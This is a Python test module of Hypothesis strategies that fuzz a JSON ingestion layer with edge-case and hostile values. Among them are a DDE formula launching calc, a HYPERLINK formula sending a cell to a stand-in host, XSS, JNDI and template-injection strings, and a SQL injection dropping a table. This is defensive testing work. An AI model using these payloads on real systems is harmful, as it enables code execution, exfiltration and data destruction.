"""Pieces of hostile JSON as they stand on the wire: texts of values, some of which are no JSON at all.

Whatever holds `CANARY` stands where people's names and free text stand, or where no value belongs: it must be stored
nowhere.
"""

from __future__ import annotations

import json

from hypothesis import strategies as st

CANARY = "Canary-Quixote"
FOREIGN_ELEMENT = "passback-fuzz"

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    "＝1",
)
MARKUP = (
    f"<{FOREIGN_ELEMENT} onload=alert(1)>", "</td></table><script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "&lt;b&gt; &amp;", "{{ 7*7 }}", "{% raw %}", "<!-- ", "]]>", "${jndi:ldap://x}", "%s %(run_key)s {reason} {0}",
)  # fmt: skip
STATEMENTS = ("'; drop table staging.otus_score; --", "\\", "\\.", "\\N", "\\x00", 'a"b', "{a,b}", "NULL", "a\tb\nc\rd")
UNICODE = (
    "", " ", "\u00a0", "\u2028", "\u2029", "\u0085", "\x01\x1f", "\x0b\x0c", "\x7f", "\ufeff", "\u202eevil\u202c",
    "\u200f",
    "e\u0301", "ﬃ", "İ", "ß", "👩‍👩‍👧‍👦" * 20, "\U0010ffff", "\ufffe", "Z̷̡͝ä̸l̴g̶o̵", "٣", "１２", "𝟙", "x" * 255,
    "x" * 256, "長" * 60,
    "a" * 49 + " b", "q" * 70_000,
)  # fmt: skip
TEXTS = FORMULAS + MARKUP + STATEMENTS + UNICODE

# What `json.dumps` cannot write: escapes of halves of a character, of NUL, and characters that JSON wants escaped.
RAW_TEXTS = (
    '"\\ud800"', '"\\udfff tail"', '"a\\udc00\\ud800b"', '"\\ud83d\\ude00"', '"\\u0000"', '"a\\u0000b"', '"\\/\\b\\f"',
    '"\n"',
    '"\t"', '"\x00"', '"\\x41"', '"\\u12"', '"unended', "'single'",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "-0.0", "1", "-1", "7.25", "0.1", "1e-7", "-1e-7", "5e-7", "1.5e-6", "2.5e-6", "0.0000005", "0.0000015",
    "9.9999995", "12.3456785", "1234567.1234565", "1234567890.123456", "9999", "9999.000001", "10000", "1e5", "1E5",
    "1e+2",
    "100e-2", "1e15", "1e16", "123456789012345678", "9007199254740993", "2147483648", "9223372036854775807",
    "9223372036854775808", "18446744073709551616", "1e22", "1e308", "1.7976931348623157e308", "1e309", "-1e400",
    "1e99999",
    "1e-400", "5e-324", "0e0", "9" * 400, "0." + "0" * 400 + "1", "0." + "3" * 400, "1" + "0" * 5000,
)  # fmt: skip
NO_NUMBERS = ("NaN", "Infinity", "-Infinity", "nan", "01", "+1", ".5", "1.", "0x10", "1_000", "1,5", "--1", "1e", "٣")
NUMBER_TEXTS = (
    *NUMBERS, *NO_NUMBERS, "", " 7 ", "7 points", "1/2", "50%", "½", "1e1000000", "1e9999999", "inf", "+7", "7.", "1٠",
    "True",
)  # fmt: skip
TIMES = (
    "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00",
    "9999-12-31T23:59:59Z", "10000-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-09-10", "2026-09-10T15:00:00",
    "2026-09-10 15:00:00Z", "2026-09-10T15:00:00.123456789Z", "2026-09-10T15:00Z", "2026-W37-4T10:00:00Z",
    "20260910T150000Z",
    "2026-09-10T23:59:60Z", "2026-09-10T24:00:00Z", "2026-09-10T15:00:00+25:00", "2026-09-10T15:00:00+05:30",
    "2026-09-10T15:00:00-00:00", "2026-09-10T15:00:00+00:00:30", "2026-11-01T01:30:00-05:00", "2026-09-10T15:00:00.5Z",
    "2024-02-29T00:00:00Z", "-2026-09-10T15:00:00Z", "infinity", "-infinity", "now", "epoch", "1757516400",
    "2026-09-10t15:00:00z",
)  # fmt: skip
DAYS = (
    "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2024-02-29", "2026-9-1", "2026/09/18",
    "18.09.2026",
    "2026-09-18T00:00:00Z", "2026-W38-5", "20260918", "infinity", "today", "2026-06-30", "2027-07-01", "2026-12-25",
    "2026-10-15",
    "2026-09-18 ", "２０２６-09-18",
)  # fmt: skip
STRUCTURES = (
    "[]", "{}", "[[]]", '[""]', "[null]", "[1,2]", '{"id":"x"}', '{"a":1,"a":2}', "[" * 400 + "]" * 400,
    '{"a":' * 400 + "1" + "}" * 400, "true", "false", "null",
)  # fmt: skip
NO_OBJECTS = (
    "null", "[]", "{}", '"text"', "17", "true", "", "{", '{"id":', '{"id":"x",}', '{id:"x"}', '{"id":"x"} {"id":"y"}',
    '{"id":"x"}junk', "\ufeff{}", "[" * 100_000, '{"a":' * 100_000, '{"id":"x"', "//", "undefined",
)  # fmt: skip


def quoted(value: str) -> str:
    """A text as JSON writes it, above ASCII as it is."""
    return json.dumps(value, ensure_ascii=False)


# Texts of all planes without halves of characters: those have their own fragments.
_any_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
texts = st.one_of(st.sampled_from([*map(quoted, TEXTS), *RAW_TEXTS]), _any_text.map(quoted))
_fraction = st.integers(0, 13).flatmap(
    lambda places: st.integers(0, 10**places).map(lambda n: f"{n:0{max(places, 1)}d}")
)
_decimal = st.builds(
    lambda whole, part, tail: f"{whole}.{part}{tail}",
    st.integers(0, 120),
    _fraction,
    st.sampled_from(["", "5", "500", "e-1", "e1"]),
)
numbers = st.one_of(st.sampled_from(NUMBERS), _decimal)
no_numbers = st.sampled_from(NO_NUMBERS)
number_texts = st.one_of(st.sampled_from(NUMBER_TEXTS), _decimal).map(quoted)
times = st.sampled_from([quoted(each) for each in TIMES])
days = st.sampled_from([quoted(each) for each in DAYS])
structures = st.sampled_from(STRUCTURES)
canary_texts = st.sampled_from([quoted(CANARY), quoted(f"={CANARY}"), f'["{CANARY}"]', f'{{"name":"{CANARY}"}}'])
# A text or a list of texts may be an id or a title, and those are kept: an object never is.
canary_objects = st.sampled_from([f'{{"name":"{CANARY}"}}', f'[{{"name":"{CANARY}"}}]'])
anything = st.one_of(texts, numbers, no_numbers, number_texts, times, days, structures, canary_objects)
